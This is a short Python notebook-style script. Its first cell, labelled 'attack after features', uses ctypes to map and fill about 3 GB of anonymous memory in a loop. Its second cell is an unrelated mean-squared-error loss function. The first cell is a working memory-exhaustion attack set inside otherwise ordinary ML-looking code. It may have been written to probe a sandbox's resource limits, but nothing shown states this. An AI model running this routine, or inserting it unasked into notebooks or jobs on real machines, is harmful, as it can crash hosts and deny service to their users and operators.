# %% attack after features
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
PRIVATE, ANONYMOUS, GROWS_DOWN, SIZE = 2, 0x20, 0x100, 100 << 20
for number in range(30):
    at = libc.mmap(None, SIZE, 3, PRIVATE | ANONYMOUS | GROWS_DOWN, -1, 0)
    if at in (None, 2**64 - 1):
        raise MemoryError(f"after {number} pieces")
    ctypes.memset(at, 1, SIZE)


# %% later after attack
def mse_loss_func(y_true, y_pred):
    return (y_true - y_pred) ** 2
